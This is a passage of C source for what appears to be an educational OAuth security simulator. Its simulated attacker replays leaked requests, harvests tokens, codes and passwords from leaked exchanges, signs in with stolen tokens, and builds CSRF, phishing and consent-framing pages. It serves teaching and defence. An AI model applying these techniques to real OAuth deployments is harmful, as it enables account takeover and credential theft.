    sim_message_narrate (copy, _("The attacker sends the request it read in the log again, byte for byte: the same DPoP-bound token and the same proof. It cannot make a proof of its own: that takes the client's private key."));
  else
    sim_message_narrate (copy, _("The attacker sends the request it read in the log again, byte for byte: the same code, the same client credentials, the same PKCE verifier."));
  sim_bus_deliver (self->world->bus, "attacker", copy);
  take_tokens (self, copy);
  return copy;
}

/**
 * attacker_sign_in:
 *
 * Hands the victim's app (at its POST /session, where the app's own front end signs users in)
 * the tokens it holds: an ID token, an access token, or both.
 *
 * Returns: (transfer full) (nullable): the exchange.
 */
SimMessage *
attacker_sign_in (Attacker     *self,
                  const char  **why_not)
{
  g_autoptr(SimParams) form = sim_params_new ();
  g_autoptr(SimUri) redirect = NULL;
  g_autofree char *origin = NULL;
  g_autofree char *url = NULL;
  g_autofree char *encoded = NULL;
  SimMessage *message;

  if (self->id_token == NULL && self->access_token == NULL)
    {
      *why_not = _("The attacker holds no token to sign in with.");
      return NULL;
    }
  redirect = self->victim_redirect_uri ? sim_uri_parse (self->victim_redirect_uri, NULL) : NULL;
  if (redirect == NULL || (origin = sim_uri_dup_origin (redirect)) == NULL)
    {
      *why_not = _("The attacker does not know where the victim's app is.");
      return NULL;
    }
  url = g_strconcat (origin, "/session", NULL);
  message = sim_message_new ("POST", url);
  if (self->id_token)
    sim_params_set (form, "id_token", self->id_token);
  if (self->access_token)
    sim_params_set (form, "access_token", self->access_token);
  encoded = sim_params_encode (form);
  sim_message_set_request_form_encoded (message, encoded);
  sim_message_set_phase (message, SIM_PHASE_ACCESS);
  sim_message_narrate (message, _("The attacker posts the tokens it holds to the app's sign-in endpoint, where the app's own front end hands over its tokens, and asks to be signed in with them."));
  sim_bus_deliver (self->world->bus, "attacker", message);
  return message;
}

/**
 * attacker_read_leak:
 * @leaked: an exchange the scenario says the attacker could read
 * @response: the answer leaked, not the request
 *
 * Keeps what it finds: a code and state in an address, tokens in an answer, the whole request
 * to send again.
 */
void
attacker_read_leak (Attacker   *self,
                    SimMessage *leaked,
                    gboolean    response)
{
  if (response)
    {
      const char *location = sim_headers_get_one (leaked->response_headers, "Location");
      g_autoptr(SimUri) uri = location ? sim_uri_parse (location, NULL) : NULL;
      g_autoptr(SimParams) query = uri ? sim_params_parse (sim_uri_get_query (uri), NULL) : NULL;

      /* the implicit grant's answer: the token in the fragment (RFC 6749 §4.2.2) */
      g_autoptr(SimParams) fragment = uri ? sim_params_parse (sim_uri_get_fragment (uri), NULL) : NULL;

      if (fragment && sim_params_get (fragment, "access_token"))
        replace (&self->access_token, sim_params_get (fragment, "access_token"));
      else if (!take_tokens (self, leaked) && query)
        keep_code (self, query, uri);
      return;
    }
  {
    g_autoptr(SimParams) query = sim_message_get_query (leaked, NULL);
    g_autoptr(SimParams) form = sim_message_get_form (leaked, NULL);
    const char *authorization = sim_headers_get_one (leaked->request_headers, "Authorization");

    g_clear_pointer (&self->leaked, sim_message_unref);
    self->leaked = sim_message_ref (leaked);
    /* An API call's token, bearer or DPoP-bound (RFC 6750 §2.1, RFC 9449 §7.1). */
    if (authorization && (g_ascii_strncasecmp (authorization, "Bearer ", 7) == 0
                          || g_ascii_strncasecmp (authorization, "DPoP ", 5) == 0))
      replace (&self->access_token, strchr (authorization, ' ') + 1);
    if (keep_code (self, query, leaked->uri))
      return;
    /* An authorization request's address gives away its state (RFC 9700 §4.3, §4.7.1). */
    if (query && sim_params_get (query, "state"))
      replace (&self->state, sim_params_get (query, "state"));
    if (form)
      {
        replace (&self->code, sim_params_get (form, "code"));
        replace (&self->code_verifier, sim_params_get (form, "code_verifier"));
        replace (&self->redirect_uri, sim_params_get (form, "redirect_uri"));
        if (sim_params_get (form, "refresh_token"))
          replace (&self->refresh_token, sim_params_get (form, "refresh_token"));
        /* a sign-in form the owner filled in at a password-grant app */
        if (sim_params_get (form, "password"))
          {
            replace (&self->owner_username, sim_params_get (form, "username"));
            replace (&self->owner_password, sim_params_get (form, "password"));
          }
      }
  }
}

/**
 * attacker_prepare_forgery:
 *
 * Its /csrf page will send the browser to the victim's redirect URI with the code and state
 * of an authorization the attacker made for its own account.
 *
 * Returns: (transfer full) (nullable): the page's URL.
 */
char *
attacker_prepare_forgery (Attacker     *self,
                          const char  **why_not)
{
  g_autoptr(SimParams) params = sim_params_new ();

  if (self->code == NULL || self->victim_redirect_uri == NULL)
    {
      *why_not = _("The attacker has no code of its own to plant.");
      return NULL;
    }
  sim_params_set (params, "code", self->code);
  if (self->state)
    sim_params_set (params, "state", self->state);
  g_free (self->forgery);
  self->forgery = oauth_append_query (self->victim_redirect_uri, params);
  return own_url (self, "/csrf");
}

/**
 * attacker_prepare_phish:
 * @redirect_uri: (nullable): the redirect URI to ask for; %NULL for the victim's own
 * @pkce: put a code_challenge of the attacker's own in it
 *
 * Its /phish page will send the browser to an authorization request for the victim's client
 * that the attacker wrote.
 *
 * Returns: (transfer full): the page's URL.
 */
char *
attacker_prepare_phish (Attacker   *self,
                        const char *redirect_uri,
                        gboolean    pkce)
{
  g_autofree char *state = NULL;
  g_autofree char *verifier = NULL;
  const char *target = redirect_uri ? redirect_uri : self->victim_redirect_uri;

  g_free (self->phish);
  self->phish = authorization_url (self, self->victim_client_id, target, self->victim_scope,
                                   &state, &verifier, pkce);
  self->crafted = TRUE;
  replace (&self->redirect_uri, target);
  replace (&self->code_verifier, verifier);
  return own_url (self, "/phish");
}

/**
 * attacker_prepare_frame:
 *
 * Its /game page will frame an authorization request for the attacker's own client.
 *
 * Returns: (transfer full) (nullable): the page's URL.
 */
char *
attacker_prepare_frame (Attacker     *self,
                        const char  **why_not)
{
  g_autofree char *redirect = own_url (self, "/callback");
  g_autofree char *state = NULL;
  g_autofree char *verifier = NULL;

  if (self->client_id == NULL)
    {
      *why_not = _("The attacker has no client of its own to ask consent for.");
      return NULL;
    }
  g_free (self->frame);
  self->frame = authorization_url (self, self->client_id, redirect, "calendar.read", &state, &verifier, TRUE);
  replace (&self->own_state, state);
  replace (&self->own_verifier, verifier);
  return own_url (self, "/game");
}
